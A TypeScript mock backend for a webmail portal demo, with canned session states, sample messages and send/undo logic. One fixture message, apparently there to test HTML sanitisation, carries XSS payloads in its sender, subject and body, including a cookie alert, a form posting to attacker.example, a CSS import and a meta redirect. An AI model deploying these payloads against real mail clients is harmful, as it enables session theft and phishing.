import type {
  MailboxFolder,
  MailboxRow,
  MessageView,
  Party,
  PortalState,
  UndoneDraft,
} from '@holdfast/contracts';

export class MockRefusal extends Error {
  readonly code: string;

  constructor(code: string, message: string) {
    super(message);
    this.code = code;
  }
}

const MINUTE = 60_000;
const UNDO_TIME = 20_000;
const started = Date.now();
const since = started - 31 * MINUTE;
const me: Party = { name: 'Megan Bowen', address: 'megan.b@contoso.example' };

let state: PortalState = {
  user: null,
  organisation: null,
  mustChoosePassword: false,
  access: 'closed',
  event: null,
  demo: true,
  copy: 'whole',
  leftSent: 0,
};
const open: PortalState = {
  user: me,
  organisation: 'Contoso',
  mustChoosePassword: false,
  access: 'open',
  event: {
    phase: 'active',
    since: new Date(since).toISOString(),
    endedAt: null,
    readOnlyUntil: null,
  },
  demo: true,
  copy: 'whole',
  leftSent: 0,
};
const STATES: Readonly<Record<string, PortalState>> = {
  open,
  temporary: { ...open, mustChoosePassword: true },
  closed: { ...open, access: 'closed', event: null },
  recovering: {
    ...open,
    access: 'read-only',
    event: {
      phase: 'recovering',
      since: new Date(since).toISOString(),
      endedAt: new Date(started - 5 * MINUTE).toISOString(),
      readOnlyUntil: new Date(started + 14 * 24 * 60 * MINUTE).toISOString(),
    },
  },
};

interface Canned {
  readonly from: Party;
  readonly minutes: number;
  readonly subject: string;
  readonly text: string;
  readonly extra?: Partial<MessageView>;
}

const part = {
  index: 0,
  fileName: 'delivery-note-2026-11834.pdf',
  contentType: 'application/pdf',
  size: 183_220,
  contentId: null,
  inline: false,
  href: '/parts/a/0',
};
const CANNED: readonly Canned[] = [
  {
    from: { name: 'Mona Kane, Fabrikam', address: 'mona@fabrikam.example' },
    minutes: 4,
    subject: 'Re: Delivery on Thursday',
    text: 'Confirmed for 08:30 at gate 4. The signed papers are attached, please bring them along. Map: https://fabrikam.example/gates?g=4.\n\nMona\n\nOn Sunday, Megan Bowen wrote:\n> Which gate is it?\n>\n> Megan',
    extra: {
      isRead: false,
      attachments: 2,
      parts: [
        part,
        { ...part, index: 1, fileName: 'gate-map.png', contentType: 'image/png', size: 2_400_100 },
      ],
      authentication: { level: 'good', words: 'The sender was verified.' },
      cc: [{ name: 'Lee Gu', address: 'lee.g@contoso.example' }],
    },
  },
  {
    from: { name: 'Jordan Miller', address: 'jordan@adatum.example' },
    minutes: 14,
    subject: 'Quote for 40 licences',
    text: 'Hello, could you send me an updated quote before noon? We would like to order today.',
    extra: {
      isRead: false,
      viaGroup: 'sales@contoso.example',
      authentication: { level: 'attention', words: 'The sender could not be verified.' },
    },
  },
  {
    from: { name: 'Lee Gu', address: 'lee.g@contoso.example' },
    minutes: 25,
    subject: 'Are you getting mail?',
    text: 'Mine stopped a few minutes ago. IT says to use the link from the text message.',
    extra: { isRead: false },
  },
  {
    from: { name: 'Patti Fernandez', address: 'patti.f@contoso.example' },
    minutes: 52,
    subject: 'Agenda for the supplier review',
    text: 'Three points, an hour at most: 1. numbers of the third quarter, 2. the new gate, 3. anything else.',
  },
  {
    from: { name: '田中 美咲', address: 'misaki@tailspin.example' },
    minutes: 81,
    subject: '来週の打ち合わせについて',
    text: 'お世話になっております。来週水曜日の件ですが、会議室を予約しました。\n\nよろしくお願いいたします。',
  },
  {
    from: { name: 'Northwind billing', address: 'billing@northwind.example' },
    minutes: 160,
    subject: 'Invoice 2026-11834',
    text: 'Your invoice for November is ready.',
    extra: {
      attachments: 1,
      parts: [
        part,
        {
          ...part,
          index: 1,
          fileName: 'logo.svg',
          contentType: 'image/svg+xml',
          contentId: 'logo@northwind',
          inline: true,
          href: '/parts/b/1',
        },
      ],
      hasRemoteContent: true,
      html: '<div style="background:#f2f5f6;padding:16px"><img data-cid="logo@northwind" alt="Northwind"><h2 style="color:#067">Your invoice for November is ready</h2><table border="1" cellpadding="8" style="border-collapse:collapse"><tr><td>Licences</td><td>1,204.00 EUR</td></tr></table><p>Amount due: <b>1,204.00 EUR</b>, payable until 7 December. <a href="https://northwind.example/pay">Pay online</a></p><img data-blocked-src="https://tracker.example/pixel.gif" width="120" height="40" alt="Offer"></div><blockquote type="cite">An older message</blockquote>',
    },
  },
  {
    from: { name: '"><img src=x onerror=alert(1)>', address: 'evil@attacker.example' },
    minutes: 300,
    subject: '<script>alert(document.cookie)</script> \u202Eevil',
    text: 'x',
    extra: {
      html: '<script>parent.hacked=1</script><img src=x onerror="parent.hacked=1"><a href="javascript:parent.hacked=1">click</a><style>@import "https://attacker.example/x.css"; body{background:url(https://attacker.example/bg)}</style><form action="https://attacker.example"><input name=p></form><svg onload="parent.hacked=1"></svg><iframe src="javascript:parent.hacked=1"></iframe><p style="position:fixed;inset:0">Your session has ended.</p><meta http-equiv="refresh" content="0;url=https://attacker.example">',
      authentication: {
        level: 'problem',
        words: 'The sender is not who they say: the domain refuses this message.',
      },
    },
  },
  {
    from: { name: 'محمد العلي', address: 'm.alali@wingtip.example' },
    minutes: 1500,
    subject: 'جدول أعمال الاجتماع',
    text: 'مرحبا، أرفق لكم جدول أعمال اجتماع الغد. أرجو التأكيد.',
  },
];

function idOf(index: number): string {
  return `019ab0de-7c5f-7d31-9a52-${String(index).padStart(12, '0')}`;
}

function message(canned: Canned, index: number): MessageView {
  const receivedAt = new Date(started - canned.minutes * MINUTE).toISOString();
  return {
    id: idOf(index),
    folder: 'inbox',
    from: canned.from,
    to: [me],
    cc: [],
    replyTo: [],
    subject: canned.subject,
    preview: canned.text.replaceAll(/\s+/g, ' ').slice(0, 140),
    receivedAt,
    sentAt: receivedAt,
    isRead: true,
    isFlagged: false,
    attachments: 0,
    viaGroup: null,
    sinceEvent: canned.minutes < 31,
    text: canned.text,
    html: null,
    hasRemoteContent: false,
    parts: [],
    authentication: { level: 'unknown', words: 'The sender was not checked.' },
    deliveries: [],
    ...canned.extra,
  };
}

const filler: readonly Canned[] = Array.from({ length: 400 }, (_, index) => ({
  from: { name: `Colleague ${index + 1}`, address: `c${index + 1}@contoso.example` },
  minutes: 1600 + index * 90,
  subject: `Weekly note ${index + 1}`,
  text: 'Nothing unusual this week. The numbers are in the sheet as always.',
}));
let mail: readonly MessageView[] = [...CANNED, ...filler].map(message);
const sentKeys = new Set<string>();

function toRow(view: MessageView): MailboxRow {
  const {
    id,
    folder,
    from,
    to,
    subject,
    preview,
    receivedAt,
    isRead,
    isFlagged,
    attachments,
    viaGroup,
    sinceEvent,
  } = view;
  return {
    id,
    folder,
    from,
    to,
    subject,
    preview,
    receivedAt,
    isRead,
    isFlagged,
    attachments,
    viaGroup,
    sinceEvent,
  };
}

function list(input: { folder: MailboxFolder; limit: number; cursor?: string | null }) {
  const all = mail.filter((each) => each.folder === input.folder);
  const start = Number(input.cursor ?? 0);
  const rows = all.slice(start, start + input.limit).map(toRow);
  const end = start + rows.length;
  return { rows, nextCursor: end < all.length ? String(end) : null };
}

function change(ids: readonly string[], part: Partial<MessageView>): { readonly ok: true } {
  mail = mail.map((each) => (ids.includes(each.id) ? { ...each, ...part } : each));
  return { ok: true };
}

function send(input: {
  key: string;
  to: string[];
  cc: string[];
  subject: string;
  text: string;
  uploadIds: string[];
}) {
  if (input.subject.includes('fail'))
    throw new MockRefusal(
      'spool.refused',
      'The message could not be stored. It is not sent; try again in a minute.',
    );
  if (!sentKeys.has(input.key)) {
    sentKeys.add(input.key);
    const view = message(
      { from: me, minutes: 0, subject: input.subject, text: input.text },
      mail.length + 1,
    );
    const deliveries = [...input.to, ...input.cc].map((recipient, index) =>
      index === 0
        ? { recipient, state: 'delivered', words: 'Accepted by their mail server at 10:14.' }
        : {
            recipient,
            state: 'deferred',
            words: 'Their mail server asked us to try again; next try at 10:20.',
          },
    );
    mail = [
      {
        ...view,
        folder: 'sent',
        to: input.to.map((address) => ({ name: '', address })),
        attachments: input.uploadIds.length,
        deliveries,
      },
      ...mail,
    ];
  }
  return { messageId: input.key, undoUntil: new Date(Date.now() + UNDO_TIME).toISOString() };
}

/** The message sent last; the page asks for no other. */
function takeBack(): UndoneDraft {
  const sent = mail.find((each) => each.folder === 'sent');
  if (sent === undefined)
    throw new MockRefusal(
      'mailbox.undo-too-late',
      'The message has left and cannot be taken back.',
    );
  mail = mail.filter((each) => each !== sent);
  const { to, cc, subject, text } = sent;
  return { to, cc, subject, text, about: null, uploads: [] };
}

/** The answers by procedure. Logins: any of `STATES`, password anything but `wrong`. */
export function answer(path: string, input: unknown): unknown {
  // The inputs come from our own page; the product validates them with zod.
  const given = input as never;
  switch (path) {
    case 'session.state':
      return state;
    case 'session.signIn': {
      const { login, password } = given as { login: string; password: string };
      const next = STATES[login];
      if (next === undefined || password === 'wrong')
        throw new MockRefusal('session.wrong-credentials', 'Wrong.');
      return (state = next);
    }
    case 'session.choosePassword':
      return (state = open);
    case 'session.signOut':
      return (state = { ...open, user: null, organisation: null, access: 'closed', event: null });
    case 'mailbox.folders':
      return (['inbox', 'sent', 'drafts', 'deleted', 'junk'] as const).map((folder) => {
        const inside = mail.filter((each) => each.folder === folder);
        return {
          folder,
          total: inside.length,
          unread: inside.filter((each) => !each.isRead).length,
        };
      });
    case 'mailbox.list':
      return list(given);
    case 'mailbox.read': {
      const found = mail.find((each) => each.id === (given as { itemId: string }).itemId);
      if (found === undefined)
        throw new MockRefusal(
          'mailbox.not-found',
          'This message is not here any more. It may have been moved.',
        );
      change([found.id], { isRead: true });
      return { ...found, isRead: true };
    }
    case 'mailbox.setRead': {
      const { itemIds, isRead } = given as { itemIds: string[]; isRead: boolean };
      return change(itemIds, { isRead });
    }
    case 'mailbox.move': {
      const { itemIds, folder } = given as { itemIds: string[]; folder: MailboxFolder };
      return change(itemIds, { folder });
    }
    case 'mailbox.send':
      return send(given);
    case 'mailbox.undoSend':
      return takeBack();
    case 'people.search': {
      const { query, limit } = given as { query: string; limit: number };
      const people = [
        ...new Map(
          mail.flatMap((each) =>
            each.from === null ? [] : [[each.from.address, each.from] as const],
          ),
        ).values(),
      ];
      return people
        .filter((party) =>
          `${party.name} ${party.address}`.toLowerCase().includes(query.toLowerCase()),
        )
        .slice(0, limit);
    }
    default:
      throw new MockRefusal('internal', `No such procedure: ${path}`);
  }
}
